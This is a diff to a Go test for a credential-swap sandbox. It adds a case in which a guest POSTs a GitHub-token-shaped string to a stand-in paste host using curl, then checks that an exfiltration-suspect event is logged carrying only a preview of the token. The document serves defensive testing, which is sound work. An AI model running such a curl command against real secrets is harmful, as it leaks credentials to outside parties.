@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/base64"
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
@@ -74,6 +75,13 @@ func TestCredentialSwap(t *testing.T) {
 			t.Errorf("upstream got a leak attempt: %s", s)
 		}
 	}
+	// A credential-shaped string that is not ours (the guest found a real
+	// token somewhere): flagged by the exfil scan, with a preview only.
+	const found = "ghp_Zx81kQmV0pLr7TnWb3YhC6uJ2sDf9GaE4oIq"
+	if r := sh(`curl -sS -d 'leaked=` + found + `' https://api.example.test/paste`); r.code != 0 || strings.Contains(r.stdout, "denied") {
+		t.Errorf("flag mode must not block: %+v", r)
+	}
+
 	// Revoke: the very next request is refused.
 	if r := e.cli("", "secret", "revoke", "STRIPE_KEY"); r.code != 0 {
 		t.Fatal(r)
@@ -137,6 +145,19 @@ func TestCredentialSwap(t *testing.T) {
 	}
 	if alerts < 3 || used < 5 {
 		t.Errorf("events: %d alerts, %d used", alerts, used)
+	}
+	var suspect bool
+	for _, ev := range evs {
+		if ev.Kind == "secret.exfil_suspect" {
+			b, _ := json.Marshal(ev.Data)
+			if strings.Contains(string(b), found) {
+				t.Errorf("exfil event carries the whole credential: %s", b)
+			}
+			suspect = suspect || strings.Contains(string(b), found[len(found)-4:])
+		}
+	}
+	if !suspect {
+		t.Error("no secret.exfil_suspect event for a GitHub token in a body")
 	}
 	r = e.cli("", "events", "--json", id)
 	if strings.Contains(r.stdout, real) {
